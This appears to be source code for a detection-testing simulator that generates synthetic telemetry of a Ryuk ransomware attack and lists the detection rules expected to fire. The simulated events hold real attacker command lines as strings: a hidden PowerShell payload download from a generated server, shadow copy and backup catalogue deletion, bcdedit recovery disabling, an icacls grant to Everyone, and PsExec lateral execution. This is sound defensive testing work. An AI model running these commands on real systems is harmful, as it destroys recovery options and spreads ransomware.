import { NO_META } from '../catalog.js';
import type { Proc, WindowsSensor } from '../sensors/windows.js';
import type { Rng } from '../prng.js';
import type { Host } from '../world.js';
import { Clock, need, SYS32, uniqueHashes, vpsIp, type Story, type StoryKit } from './kit.js';
import { RULES, SIGMA } from './rules.js';

const SHARES = ['Finance', 'HR', 'Projects', 'Sales', 'Legal', 'Engineering', 'Procurement', 'Archive'];
const USER_FOLDERS = [
  'Documents',
  'Desktop',
  'Pictures',
  'Downloads',
  'Documents\\Projects',
  'Documents\\Scans',
];
const FILES = [
  'budget',
  'payroll',
  'contract',
  'forecast',
  'invoice',
  'offer',
  'minutes',
  'design',
  'backup',
  'clients',
];
const EXTENSIONS = ['xlsx', 'docx', 'pdf', 'pptx', 'csv', 'jpg', 'zip', 'bak'];

/** Ryuk's steps on one host: no way back (shadows, backups, boot recovery), then encryption. */
function detonate(
  win: WindowsSensor,
  r: Rng,
  clock: Clock,
  ryuk: Proc,
  folders: readonly string[],
  note: string,
): void {
  const cmd = (line: string) =>
    win.spawn(clock.step(1, 4), ryuk, `${SYS32}\\cmd.exe`, `C:\\Windows\\system32\\cmd.exe /c "${line}"`);
  win.spawn(
    clock.step(0, 1),
    cmd('vssadmin.exe Delete Shadows /all /quiet'),
    `${SYS32}\\vssadmin.exe`,
    'vssadmin.exe  Delete Shadows /all /quiet',
  );
  win.spawn(
    clock.step(0, 1),
    cmd('vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB'),
    `${SYS32}\\vssadmin.exe`,
    'vssadmin  resize shadowstorage /for=c: /on=c: /maxsize=401MB',
  );
  const boot = cmd(
    'bcdedit /set {default} recoveryenabled No & bcdedit /set {default} bootstatuspolicy ignoreallfailures',
  );
  win.spawn(clock.step(0, 1), boot, `${SYS32}\\bcdedit.exe`, 'bcdedit  /set {default} recoveryenabled No');
  win.spawn(
    clock.step(0, 1),
    boot,
    `${SYS32}\\bcdedit.exe`,
    'bcdedit  /set {default} bootstatuspolicy ignoreallfailures',
  );
  win.spawn(
    clock.step(0, 1),
    cmd('wbadmin delete catalog -quiet'),
    `${SYS32}\\wbadmin.exe`,
    'wbadmin  delete catalog -quiet',
  );
  const stop = win.spawn(clock.step(1, 3), ryuk, `${SYS32}\\net.exe`, 'net  stop "samss" /y');
  win.spawn(clock.step(0, 1), stop, `${SYS32}\\net1.exe`, 'C:\\Windows\\system32\\net1  stop "samss" /y');
  win.spawn(clock.step(1, 3), ryuk, `${SYS32}\\icacls.exe`, 'icacls  "C:\\*" /grant Everyone:F /T /C /Q');
  for (const folder of folders) {
    for (let i = r.int(2, 5); i > 0; i--)
      win.file(
        clock.step(0, 2),
        ryuk,
        `${folder}\\${r.pick(FILES)}_${r.int(1, 999)}.${r.pick(EXTENSIONS)}.RYK`,
      );
    win.file(clock.step(0, 1), ryuk, `${folder}\\${note}`);
  }
}

function foldersOf(r: Rng, host: Host, user: string): string[] {
  const out =
    host.role === 'workstation'
      ? r.shuffle(USER_FOLDERS).map((f) => `C:\\Users\\${user}\\${f}`)
      : r.shuffle(SHARES).map((s) => `D:\\Shares\\${s}`);
  out.push('C:\\Users\\Public\\Documents');
  for (const sub of ['2023', '2024', 'Q3', 'old'].slice(0, r.int(1, 4))) out.push(`${out[0]}\\${sub}`);
  return out;
}

/**
 * Ryuk: an administrator's session on a workstation downloads the ransomware and PsExec, copies
 * the binary to the same path on one or two more hosts over SMB and starts it there with PsExec,
 * under the same account (so the hosts share a user and a file hash); on each host it
 * deletes shadow copies and the backup catalogue, disables boot recovery, opens every file's
 * ACL, then encrypts folders and leaves a ransom note in each.
 */
function play(kit: StoryKit) {
  const { r, world, win } = kit;
  const zero = need(world.reserveHost(r, ['workstation']), 'workstations');
  const targets: Host[] = [
    need(world.reserveHost(r, ['server']) ?? world.reserveHost(r, ['workstation']), 'hosts for ransomware'),
  ];
  if (r.chance(0.6)) {
    const more = world.reserveHost(r, ['server', 'workstation']);
    if (more !== null) targets.push(more);
  }
  const admin = need(world.reserveAdmin(r), 'administrator accounts');
  for (const h of [zero, ...targets]) {
    const owner = world.primaryUser.get(h);
    if (owner !== undefined) world.reserveAccount(owner);
  }
  const clock = new Clock(r, kit.start);
  const who = win.elevated(win.session(zero, admin, kit.start - r.int(20, 120) * 60_000));
  const explorer = win.running(
    zero,
    'C:\\Windows\\explorer.exe',
    'C:\\Windows\\Explorer.EXE',
    who,
    kit.start - 3_600_000,
  );
  const cmd = win.spawn(clock.t, explorer, `${SYS32}\\cmd.exe`, '"C:\\Windows\\system32\\cmd.exe"');

  const name = r.lower(r.int(5, 8));
  const local = `C:\\Users\\Public\\${name}.exe`;
  const psexec = 'C:\\Users\\Public\\PsExec64.exe';
  const server = vpsIp(kit);
  const download = win.spawn(
    clock.step(5, 40),
    cmd,
    `${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    `powershell.exe -nop -w hidden -c "iwr http://${server}/${r.lower(6)}.bin -OutFile ${local}; iwr http://${server}/p.bin -OutFile ${psexec}"`,
  );
  win.connect(clock.step(1, 3), download, { ip: server, port: 80 });
  kit.flat.conn(
    clock.t + 500,
    zero,
    { ip: server, port: 80, service: 'http' },
    { out: r.int(300, 900), in: r.int(200_000, 900_000) },
  );
  win.file(clock.step(2, 8), download, local);
  win.file(clock.step(1, 3), download, psexec);
  const ryukHashes = uniqueHashes(kit, 'ryuk');
  const psexecHashes = uniqueHashes(kit, 'psexec');
  win.spawn(clock.step(10, 60), cmd, `${SYS32}\\net.exe`, 'net  view');

  const note = r.pick(['RyukReadMe.txt', 'RyukReadMe.html']);
  const victims: { proc: Proc; clock: Clock; user: string }[] = [];
  for (const target of targets) {
    // `copy` is cmd's own: only the target sees it, as a file the kernel (SMB) writes.
    const remote = win.elevated(win.session(target, admin, clock.step(20, 90)));
    win.logon(clock.t, target, remote, { type: 3, ip: zero.ip, workstation: zero.short, kerberos: false });
    win.fileBySystem(clock.step(1, 4), target, local);
    const push = win.spawn(
      clock.step(5, 30),
      cmd,
      psexec,
      `${psexec} \\\\${target.short} -accepteula -d ${local}`,
      {
        hashes: psexecHashes,
        meta: {
          FileVersion: '2.43',
          Description: 'Execute processes remotely',
          Product: 'Sysinternals PsExec',
          Company: 'Sysinternals - www.sysinternals.com',
          OriginalFileName: 'psexec.c',
        },
      },
    );
    win.connect(clock.step(0, 1), push, { ip: target.ip, port: 445 });
    win.fileBySystem(clock.step(0, 1), target, 'C:\\Windows\\PSEXESVC.exe');
    const system = win.builtin(target, 'SYSTEM');
    const services = win.running(
      target,
      `${SYS32}\\services.exe`,
      'C:\\Windows\\system32\\services.exe',
      system,
      kit.start - 3 * 86_400_000,
    );
    const svc = win.spawn(
      clock.step(0, 1),
      services,
      'C:\\Windows\\PSEXESVC.exe',
      'C:\\Windows\\PSEXESVC.exe',
      { who: system },
    );
    // PsExec without -s runs the program as the account that called it.
    const proc = win.spawn(clock.step(1, 3), svc, local, `"${local}"`, {
      who: remote,
      hashes: ryukHashes,
      meta: NO_META,
      cwd: 'C:\\Windows\\system32\\',
    });
    victims.push({
      proc,
      clock: new Clock(r, clock.t),
      user: world.primaryUser.get(target)?.name ?? admin.name,
    });
  }
  const ryuk = win.spawn(clock.step(5, 30), cmd, local, `"${local}"`, { hashes: ryukHashes, meta: NO_META });
  victims.unshift({ proc: ryuk, clock, user: admin.name });
  for (const v of victims) detonate(win, r, v.clock, v.proc, foldersOf(r, v.proc.host, v.user), note);
  return { hosts: [zero, ...targets] };
}

export const ransomware: Story = {
  name: 'ransomware',
  title: 'Ryuk pushed with PsExec from one workstation: recovery inhibited and files encrypted on each host',
  expectedRules: [
    RULES.inhibitRecovery,
    RULES.ransomNotesSpread,
    RULES.recoveryThenNotes,
    SIGMA.shadowCopiesDeletion,
    SIGMA.bcdeditTampering,
    SIGMA.ryuk,
    SIGMA.icaclsPermissions,
    SIGMA.psexec,
    SIGMA.psexecService,
    SIGMA.psexecServiceFile,
    SIGMA.invokeWebRequest,
    SIGMA.netStopService,
    SIGMA.netView,
  ],
  play,
};
